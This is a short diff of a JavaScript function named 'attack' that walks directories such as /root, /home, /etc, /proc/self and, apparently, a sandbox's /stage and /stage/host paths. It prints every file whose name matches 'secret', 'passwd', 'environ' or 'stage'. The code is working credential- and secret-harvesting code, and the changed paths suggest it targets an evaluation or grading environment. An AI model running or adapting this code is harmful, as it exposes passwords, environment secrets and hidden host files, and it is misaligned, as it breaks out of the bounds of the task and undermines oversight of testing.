@@ -2,7 +2,7 @@
 const fs =
   globalThis.process?.getBuiltinModule?.('node:fs') ?? (await import('node:fs').catch(() => undefined));
 const attack = () => {
-  for (const folder of ['.', '..', '../..', '/tmp', '/', '/submission', '/root', '/home', '/proc/self', '/etc']) {
+  for (const folder of ['.', '..', '../..', '/tmp', '/', '/stage', '/stage/host', '/root', '/home', '/proc/self', '/etc']) {
     try {
       for (const name of fs.readdirSync(folder)) {
         if (/secret|passwd|environ|stage/i.test(name)) console.log(folder, name, fs.readFileSync(`${folder}/${name}`, 'utf8'));
